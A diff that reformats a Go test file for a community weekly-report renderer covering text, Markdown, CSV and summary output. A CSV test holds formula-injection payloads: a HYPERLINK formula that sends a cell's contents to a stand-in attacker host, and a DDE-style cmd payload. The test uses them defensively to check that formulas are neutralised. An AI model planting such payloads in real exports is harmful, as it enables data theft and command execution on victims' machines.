@@ -21,14 +21,23 @@ func render(t *testing.T, f Format, rs ...*Report) string {
 }
 
 func TestParseFormat(t *testing.T) {
-	for in, want := range map[string]Format{"text": Text, "Markdown": Markdown, "md": Markdown, " html ": HTML, "csv": CSV, "JSON": JSON} {
+	formats := map[string]Format{
+		"text":     Text,
+		"Markdown": Markdown,
+		"md":       Markdown,
+		" html ":   HTML,
+		"csv":      CSV,
+		"JSON":     JSON,
+	}
+	for in, want := range formats {
 		got, err := ParseFormat(in)
 		if err != nil || got != want {
 			t.Errorf("ParseFormat(%q) = %q, %v; want %q", in, got, err, want)
 		}
 	}
 	_, err := ParseFormat("pdf")
-	if err == nil || !strings.Contains(err.Error(), `"pdf"`) || !strings.Contains(err.Error(), "text, markdown, html, csv, json") {
+	if err == nil || !strings.Contains(err.Error(), `"pdf"`) ||
+		!strings.Contains(err.Error(), "text, markdown, html, csv, json") {
 		t.Fatalf("got %v, want an error naming pdf and listing the formats", err)
 	}
 	if err := Render(&bytes.Buffer{}, nil, Format("pdf")); err == nil {
@@ -110,7 +119,15 @@ func TestTextFrench(t *testing.T) {
 
 func TestTextEmptyAndNotSignificant(t *testing.T) {
 	r := emptyReport("en")
-	r.Nudges = NudgeEffect{Sent: 3, Nudged: 3, NudgedContributed: 2, Holdout: 2, HoldoutContributed: 0, Lift: 41.9, PValue: 0.4}
+	r.Nudges = NudgeEffect{
+		Sent:               3,
+		Nudged:             3,
+		NudgedContributed:  2,
+		Holdout:            2,
+		HoldoutContributed: 0,
+		Lift:               41.9,
+		PValue:             0.4,
+	}
 	out := render(t, Text, r)
 	for _, want := range []string{
 		"Median first answer      —         —  —",
@@ -169,7 +186,8 @@ func TestMarkdown(t *testing.T) {
 		"## Platform guild — 2026-W47",
 		"| Figure | Value | Previous | Week over week |\n|---|---:|---:|---|\n",
 		"| Questions answered | 78.5% | 70% | ▲ +8.5 pts |",
-		"| 4 d | Chen Wei | \\#platform | [How do we rotate TLS certificates on the edge proxies?](https://example.slack.com/archives/C0PLAT/p1700000000000100) |",
+		"| 4 d | Chen Wei | \\#platform | [How do we rotate TLS certificates on the edge proxies?]" +
+			"(https://example.slack.com/archives/C0PLAT/p1700000000000100) |",
 		`[Why does \*this\* \| break \[tables\](x) &lt;b&gt;?](https://example.slack.com/archives/C0HELP/p1700000500000200)`,
 		"| \\# not\\_a\\_heading | 4 | 6 | 9 |",
 		"- Lift: **▲ +21.3 pts (p = 0.021)**",
@@ -223,7 +241,8 @@ func TestCSV(t *testing.T) {
 			t.Errorf("%v (-want +got):\n%s", k, diff)
 		}
 	}
-	if row := got[key{"Platform guild", "2026-W47", FigActiveMembers}]; row[2] != "2026-11-16T00:00:00+01:00" || row[3] != "2026-11-23T00:00:00+01:00" {
+	row := got[key{"Platform guild", "2026-W47", FigActiveMembers}]
+	if row[2] != "2026-11-16T00:00:00+01:00" || row[3] != "2026-11-23T00:00:00+01:00" {
 		t.Errorf("period bounds %q %q, want RFC 3339 in the community's zone", row[2], row[3])
 	}
 	if _, ok := got[key{"Quiet corner", "2026-W47", "nudges.lift_points"}]; ok {
@@ -235,8 +254,9 @@ func TestCSV(t *testing.T) {
 // neutralised with a leading quote; numbers, negative ones included, stay
 // numbers.
 func TestCSVNeutralisesFormulas(t *testing.T) {
-	for _, name := range []string{`=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-		"\t=1+1", "\r=1+1"} {
+	formulas := []string{`=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3",
+		"@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
+	for _, name := range formulas {
 		r := sampleReport("en")
 		r.Community, r.Period.Label = name, name
 		r.Headline = append(r.Headline, Figure{Key: "-" + name, Value: 1, Previous: 4, Unit: "@unit"})
@@ -303,7 +323,8 @@ func TestSummary(t *testing.T) {
 		t.Errorf("summary of %d lines, want a few:\n%s", n, en)
 	}
 	fr := Summary(sampleReport("fr"))
-	if !strings.Contains(fr, "Membres actifs 42 (▲ +3)") || !strings.Contains(fr, "2 questions en attente, la plus ancienne depuis 4 j.") {
+	if !strings.Contains(fr, "Membres actifs 42 (▲ +3)") ||
+		!strings.Contains(fr, "2 questions en attente, la plus ancienne depuis 4 j.") {
 		t.Errorf("French summary:\n%s", fr)
 	}
 	if got := Summary(emptyReport("fr")); !strings.Contains(got, "Aucune question en attente.") {
